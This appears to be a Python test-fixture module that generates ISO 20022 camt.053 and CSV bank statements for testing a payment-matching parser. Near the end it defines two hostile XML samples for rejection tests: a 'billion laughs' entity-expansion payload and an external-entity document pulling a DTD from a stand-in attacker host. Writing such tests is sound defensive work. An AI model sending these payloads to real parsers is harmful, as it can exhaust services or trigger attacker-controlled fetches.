"""Bank statements written for the tests from the ISO 20022 message definitions (camt.053.001.02 and .08), and the
CSV statement of domain/collections/statements/parsing.py: credits that quote a bill number, credits to match by
amount and name, a direct-debit return (R-transaction) and hostile or invalid files."""
from __future__ import annotations

from dataclasses import dataclass
from datetime import date

NS = {"02": "urn:iso:std:iso:20022:tech:xsd:camt.053.001.02", "08": "urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"}
OUR_IBAN = "FR7630006000011234567890189"


@dataclass(frozen=True)
class Line:
    amount: str
    direction: str = "CRDT"  # or DBIT
    ref: str | None = None  # AcctSvcrRef of the entry
    name: str | None = None
    iban: str | None = None
    ustrd: str | None = None
    creditor_ref: str | None = None  # structured reference (CdtrRefInf/Ref)
    end_to_end: str | None = None
    reason: str | None = None  # return reason code
    reversal: bool = False


def _party(version: str, role: str, name: str | None, iban: str | None) -> str:
    out = ""
    if name:
        party = f"<Pty><Nm>{name}</Nm></Pty>" if version == "08" else f"<Nm>{name}</Nm>"
        out += f"<{role}>{party}</{role}>"
    if iban:
        out += f"<{role}Acct><Id><IBAN>{iban}</IBAN></Id></{role}Acct>"
    return f"<RltdPties>{out}</RltdPties>" if out else ""


def _entry(version: str, line: Line, booked: date) -> str:
    status = "<Sts><Cd>BOOK</Cd></Sts>" if version == "08" else "<Sts>BOOK</Sts>"
    family = ("<Cd>RDDT</Cd><SubFmlyCd>UPDD</SubFmlyCd>" if line.reason else "<Cd>RCDT</Cd><SubFmlyCd>ESCT</SubFmlyCd>")
    refs = f"<Refs><EndToEndId>{line.end_to_end}</EndToEndId></Refs>" if line.end_to_end else ""
    amount = f'<Amt Ccy="EUR">{line.amount}</Amt><CdtDbtInd>{line.direction}</CdtDbtInd>' if version == "08" else ""
    role = "Dbtr" if line.direction == "CRDT" or line.reason else "Cdtr"
    remittance = ""
    if line.ustrd or line.creditor_ref:
        strd = ""
        if line.creditor_ref:
            strd = ("<Strd><CdtrRefInf><Tp><CdOrPrtry><Cd>SCOR</Cd></CdOrPrtry></Tp>"
                    f"<Ref>{line.creditor_ref}</Ref></CdtrRefInf></Strd>")
        remittance = f"<RmtInf>{f'<Ustrd>{line.ustrd}</Ustrd>' if line.ustrd else ''}{strd}</RmtInf>"
    ret = f"<RtrInf><Rsn><Cd>{line.reason}</Cd></Rsn></RtrInf>" if line.reason else ""
    tx = f"{refs}{amount}{_party(version, role, line.name, line.iban)}{remittance}{ret}"
    details = f"<NtryDtls><TxDtls>{tx}</TxDtls></NtryDtls>" if tx else ""
    return (f'<Ntry><Amt Ccy="EUR">{line.amount}</Amt><CdtDbtInd>{line.direction}</CdtDbtInd>'
            f"{'<RvslInd>true</RvslInd>' if line.reversal else ''}{status}"
            f"<BookgDt><Dt>{booked.isoformat()}</Dt></BookgDt><ValDt><Dt>{booked.isoformat()}</Dt></ValDt>"
            f"{f'<AcctSvcrRef>{line.ref}</AcctSvcrRef>' if line.ref else ''}"
            f"<BkTxCd><Domn><Cd>PMNT</Cd><Fmly>{family}</Fmly></Domn></BkTxCd>{details}</Ntry>")


def camt053(lines: list[Line], *, version: str = "02", statement_id: str = "STMT-2026-001", booked: date,
            iban: str = OUR_IBAN, message_id: str = "MSG-2026-001") -> bytes:
    """A camt.053 message with one statement of our account, its entries booked on `booked`."""
    stamp = f"{booked.isoformat()}T18:00:00"
    balance = (f'<Bal><Tp><CdOrPrtry><Cd>CLBD</Cd></CdOrPrtry></Tp><Amt Ccy="EUR">1000.00</Amt>'
               f"<CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>{booked.isoformat()}</Dt></Dt></Bal>")
    entries = "".join(_entry(version, line, booked) for line in lines)
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<Document xmlns="{NS[version]}"><BkToCstmrStmt>'
            f"<GrpHdr><MsgId>{message_id}</MsgId><CreDtTm>{stamp}</CreDtTm></GrpHdr>"
            f"<Stmt><Id>{statement_id}</Id><CreDtTm>{stamp}</CreDtTm>"
            f"<FrToDt><FrDtTm>{booked.isoformat()}T00:00:00</FrDtTm><ToDtTm>{stamp}</ToDtTm></FrToDt>"
            f"<Acct><Id><IBAN>{iban}</IBAN></Id><Ccy>EUR</Ccy></Acct>{balance}{entries}</Stmt>"
            "</BkToCstmrStmt></Document>").encode()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><GrpHdr><MsgId>&lol4;</MsgId>
</GrpHdr></BkToCstmrStmt></Document>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt/></Document>"""


def csv_statement(rows: list[dict], *, statement_id: str = "CSV-2026-001", iban: str = OUR_IBAN,
                  delimiter: str = ",") -> bytes:
    header = ["statement_id", "account_iban", "booking_date", "amount", "currency", "entry_reference",
              "counterparty_name", "reference", "remittance", "end_to_end_id", "return_reason"]
    lines = [delimiter.join(header)]
    for row in rows:
        values = {"statement_id": statement_id, "account_iban": iban, "currency": "EUR", **row}
        lines.append(delimiter.join(str(values.get(name, "")) for name in header))
    return ("\r\n".join(lines) + "\r\n").encode()
